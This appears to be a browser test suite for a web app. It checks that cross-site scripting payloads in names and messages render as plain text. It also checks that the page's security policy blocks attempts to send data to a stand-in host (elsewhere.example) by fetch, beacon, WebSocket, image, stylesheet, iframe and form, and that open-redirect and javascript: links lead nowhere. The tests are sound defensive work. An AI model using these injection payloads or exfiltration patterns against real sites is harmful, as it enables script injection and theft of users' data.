/** What a browser does with hostile words and hostile code inside the app's own page. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser, type TestBrowser } from '../src/testing/browser.ts'
import { startHost, type Host } from './host.ts'
import {
  goesTo,
  knocks,
  letsIn,
  looksLater,
  opensTheDoor,
  saysYesToShowing,
  seesBeforeTheCircle,
  seesText,
  someone,
  startsCircle,
  thanksSomebody,
} from './person.ts'

let host: Host
let browser: TestBrowser

beforeAll(async () => {
  host = await startHost()
  browser = await launchBrowser()
})

afterAll(async () => {
  await browser.close()
  await host.end()
})

test('[C25] script in a name, a title and a thank-you is shown as the text it is, and the policy had nothing to refuse', async () => {
  const ana = await someone(browser, '<img src=x onerror=hit()>')
  const ben = await someone(browser, '<script>hit()</script>')
  const words = '<svg onload=hit()> [look](javascript:hit()) **bold** {{hit()}}'
  const hits: string[] = []
  for (const who of [ana, ben]) {
    await who.profile.context.exposeFunction('hit', () => hits.push(who.name))
    who.page.on('dialog', (dialog) => hits.push(dialog.message()))
  }
  await startsCircle(ana, host.startLink(), '<b onclick=hit()>La cocina</b>')
  await letsIn(ana, ben, await knocks(ben, await opensTheDoor(ana)))
  await looksLater(ben)
  await thanksSomebody(ana, ben, words)
  await saysYesToShowing(ben, words)
  await seesBeforeTheCircle(ana, ana, ben, words)
  await seesText(ben, words)
  await goesTo(ben, 'app.people')
  await seesText(ben, ana.name)
  for (const who of [ana, ben]) {
    expect(await who.page.locator('main script, main img, main b[onclick], main a[href^="javascript"]').count()).toBe(0)
    expect(who.profile.problems).toEqual([])
    await who.profile.context.close()
  }
  expect(hits).toEqual([])
})

test('[G08] code of a dependency that calls out is stopped by the policy, whichever way it tries', async () => {
  const { page, context } = await browser.newProfile()
  await page.goto(host.origin)
  await page.getByRole('heading', { level: 1 }).waitFor()
  const refused = await page.evaluate(async () => {
    const elsewhere = 'https://elsewhere.example/?words=stolen'
    const refusals: string[] = []
    // The page's own policy and the server's both refuse some, so each way is looked at once.
    document.addEventListener('securitypolicyviolation', (event) => refusals.push(`${event.effectiveDirective} ${event.blockedURI}`))
    const refusedBy = (directive: string, count: number): Promise<void> =>
      new Promise((resolve) => {
        const look = (): void => (refusals.filter((refusal) => refusal.startsWith(directive)).length >= count ? resolve() : void requestAnimationFrame(look))
        look()
      })
    await fetch(elsewhere).catch(() => {})
    await refusedBy('connect-src', 1)
    navigator.sendBeacon(elsewhere, 'stolen')
    await refusedBy('connect-src', 2)
    try {
      void new WebSocket('wss://elsewhere.example/')
    } catch {
      // Some versions throw, all of them report.
    }
    await refusedBy('connect-src', 3)
    for (const [name, attribute, directive] of [
      ['img', 'src', 'img-src'],
      ['link', 'href', 'style-src'],
      ['iframe', 'src', 'frame-src'],
    ] as const) {
      const element = document.createElement(name)
      if (name === 'link') element.setAttribute('rel', 'stylesheet')
      element.setAttribute(attribute, elsewhere)
      document.body.append(element)
      await refusedBy(directive, 1)
    }
    const form = document.createElement('form')
    form.action = elsewhere
    document.body.append(form)
    form.submit()
    await refusedBy('form-action', 1)
    return refusals
  })
  expect(refused.filter((refusal) => !refusal.includes('elsewhere.example'))).toEqual([])
  await context.close()
})

test('[G06] a link to somewhere else or to code leads nowhere', async () => {
  const { page, context, requests } = await browser.newProfile()
  for (const path of [
    '/?next=https://elsewhere.example/',
    '/#https://elsewhere.example/',
    '/#javascript:document.title=1',
    '/join?to=https://elsewhere.example',
  ]) {
    await page.goto(host.origin + path)
    await page.getByRole('heading', { level: 1 }).waitFor()
    expect(new URL(page.url()).origin).toBe(host.origin)
    expect(await page.title()).toBe('Notes')
  }
  expect((await page.goto(`${host.origin}//elsewhere.example/`))?.status()).toBe(404)
  expect(requests.filter((url) => !url.startsWith(host.origin))).toEqual([])
  await context.close()
})
